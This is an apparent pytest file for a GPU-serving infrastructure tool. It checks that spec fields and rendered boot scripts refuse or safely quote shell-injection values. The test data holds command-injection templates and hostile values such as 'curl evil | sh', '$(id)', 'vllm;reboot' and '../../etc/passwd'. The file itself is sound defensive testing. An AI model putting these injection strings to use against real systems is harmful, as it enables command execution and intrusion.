"""No spec value reaches a shell (issue 19): hostile values are refused at the spec edge
with the key path, and the scripts quote what they interpolate even when a caller skips
the spec (components are a library too)."""

from __future__ import annotations

import os
import stat
import subprocess
from pathlib import Path
from typing import Any

import pytest

from inferplane.components.aws.gpu_fleet import render_user_data
from inferplane.components.container import ContainerSpec
from inferplane.components.shell import UnsafeValueError, comment, quote
from inferplane.errors import SpecError
from inferplane.serving.base import EngineCommand
from inferplane.spec import parse_spec
from inferplane.spec.load import load_stack, provider_regions
from tests.conftest import ROOT, stack_spec_data
from tests.support.tools import require_tool

HOSTILE = [
    "$(touch {mark})",
    "`touch {mark}`",
    "x; touch {mark}",
    "x && touch {mark}",
    "x | touch {mark}",
    "x' ; touch {mark}; echo '",
    'x" ; touch {mark}; echo "',
    "x\ntouch {mark}",
    "x\rtouch {mark}",
    "${{IFS}}touch${{IFS}}{mark}",
]


def _parse_with(stack: str, path: str, value: Any) -> None:
    """Parses ``stack``'s spec with ``value`` at ``path``, as the stack's config would."""
    data = stack_spec_data(stack)
    node: Any = data
    *parents, last = path.split(".")
    for key in parents:
        node = node.setdefault(key, {})
    node[last] = value
    config = load_stack(ROOT, stack).config
    parse_spec(data, regions=provider_regions(config))


SPEC_FIELDS = [
    # (stack, key path, hostile value): every value that reaches user data or a script.
    ("prod-us-east-1", "targets.llama-fleet.model", "meta-llama/x\ncurl evil | sh"),
    ("prod-us-east-1", "targets.llama-fleet.model", "m$(id)"),
    ("prod-us-east-1", "targets.llama-fleet.model", "../../etc/passwd"),
    ("prod-us-east-1", "targets.llama-fleet.serving.image", "vllm@sha256:$(touch /tmp/x)"),
    ("prod-us-east-1", "targets.llama-fleet.serving.image", "vllm/vllm-openai:v1 --privileged"),
    ("prod-us-east-1", "targets.llama-fleet.serving.image", "vllm;reboot"),
    ("prod-eu-central-1", "targets.llama-plant.serving.image", "x@sha256:`reboot`"),
    ("prod-eu-central-1", "targets.llama-plant.model", "llama 3.1"),
    ("prod-eu-central-1", "targets.llama-plant.serving.cache_host_path", "/var/../etc"),
    ("prod-europe-west4", "router.image", "gcr.io/x/router@sha256:abc def"),
    ("prod-us-east-1", "targets.llama-fleet.hf_token_secret", "arn; curl evil"),
    ("prod-us-east-1", "targets.mistral-sm.model_data", "s3://bucket/$(id)"),
]


@pytest.mark.parametrize(("stack", "path", "value"), SPEC_FIELDS)
def test_hostile_spec_values_are_refused_with_their_key(stack: str, path: str, value: str) -> None:
    with pytest.raises(SpecError) as refused:
        _parse_with(stack, path, value)
    assert [issue.path for issue in refused.value.issues] == [path]


@pytest.mark.parametrize(
    "value",
    [
        "vllm/vllm-openai:v0.11.0",
        "ghcr.io/ggml-org/llama.cpp:server-cuda@sha256:" + "a" * 64,
        "localhost:5000/team/router:1.2.3",
        "us-docker.pkg.dev/p/r/router@sha256:" + "0" * 64,
    ],
)
def test_ordinary_image_references_pass(value: str) -> None:
    _parse_with("prod-us-east-1", "targets.llama-fleet.serving.image", value)


@pytest.mark.parametrize(
    "value",
    [
        "meta-llama/Llama-3.1-8B-Instruct",
        "anthropic.claude-3-haiku-20240307-v1:0",
        "llama3.1:8b-instruct-q4_K_M",
        "arn:aws:bedrock:us-east-1::foundation-model/x.y-v1:0",
    ],
)
def test_ordinary_model_ids_pass(value: str) -> None:
    # A model ID's syntax only: what the checkpoint holds (AWQ, gated) is test_fit.py's.
    data = stack_spec_data("prod-us-east-1")
    fleet = data["targets"]["llama-fleet"]
    fleet["model"] = value
    fleet["checkpoint"] = {"quantization": "awq", "gated": False}
    parse_spec(data, regions=provider_regions(load_stack(ROOT, "prod-us-east-1").config))


def test_quote_refuses_control_characters_and_names_the_value() -> None:
    with pytest.raises(UnsafeValueError, match=r"model: .*U\+000A"):
        quote("a\nb", "model")
    with pytest.raises(UnsafeValueError):
        comment("a\rb")
    assert quote("a b") == "'a b'"


def _shims(tmp_path: Path, names: list[str]) -> dict[str, str]:
    """Commands the user data calls, as recorders that succeed and do nothing else."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for name in names:
        shim = bin_dir / name
        shim.write_text(f'#!/bin/sh\necho "{name} $*" >> "{tmp_path}/calls"\nexit 0\n')
        shim.chmod(shim.stat().st_mode | stat.S_IEXEC)
    return {**os.environ, "PATH": f"{bin_dir}:/usr/bin:/bin"}


@pytest.mark.parametrize("template", HOSTILE)
@pytest.mark.parametrize("where", ["model", "image", "arg", "env"])
def test_user_data_runs_no_injected_command(tmp_path: Path, template: str, where: str) -> None:
    """Renders the GPU fleet's boot script with a hostile value in each slot and RUNS it
    (docker, aws, curl and mkdir shimmed): the marker file must never appear. A value the
    quoting helper refuses (control characters) is fine too: it never reaches a script."""
    mark = tmp_path / "pwned"
    hostile = template.format(mark=mark)
    engine = EngineCommand(
        image=hostile if where == "image" else "vllm/vllm-openai:v0.11.0",
        args=("--model", hostile if where == "arg" else "m"),
        env={"OLLAMA_MODEL": hostile} if where == "env" else {},
    )
    try:
        script = render_user_data(
            ContainerSpec.of_engine(engine),
            "us-east-1",
            hostile if where == "model" else "m",
            "arn:aws:x",
        )
    except UnsafeValueError:
        assert any(c in hostile for c in "\n\r")
        return
    path = tmp_path / "user-data.sh"
    path.write_text(script)
    env = _shims(tmp_path, ["docker", "aws", "curl", "mkdir", "sleep"])
    subprocess.run(["bash", "-n", str(path)], check=True)
    subprocess.run(["bash", str(path)], check=True, env=env, cwd=tmp_path, timeout=30)
    assert not mark.exists(), script
    calls = (tmp_path / "calls").read_text()
    assert "docker run" in calls


def test_user_data_passes_shellcheck(tmp_path: Path) -> None:
    require_tool("shellcheck")
    engine = EngineCommand(
        image="ollama/ollama:0.5.0", args=("serve",), env={"OLLAMA_MODEL": "x'; id; '"}
    )
    path = tmp_path / "user-data.sh"
    path.write_text(
        render_user_data(ContainerSpec.of_engine(engine), "us-east-1", "m$(id)", "arn:aws:x")
    )
    subprocess.run(["shellcheck", "-s", "bash", str(path)], check=True)
